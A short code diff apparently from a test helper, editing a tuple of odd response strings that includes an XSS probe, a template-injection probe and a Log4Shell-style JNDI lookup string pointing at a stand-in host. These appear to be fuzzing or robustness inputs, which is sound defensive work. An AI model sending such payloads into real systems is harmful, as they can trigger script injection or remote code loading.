@@ -13,7 +13,7 @@ _CARRIER: Quantiles = ((0.0, 8), (0.5, 22), (0.9, 60), (1.0, 140))
 _ODD_ANSWERS = (
     "<html><body>503 Service Temporarily Unavailable",
     "  <script>alert(1)</script>",
-    "\t{{ 7 * 7 }} ${jndi:ldap://x.example.com/a}",
+    "\t<{{ 7 * 7 }} ${jndi:ldap://x.example.com/a}",
     "| *bold* [link](https://example.com/?token=1) |",
 )
 
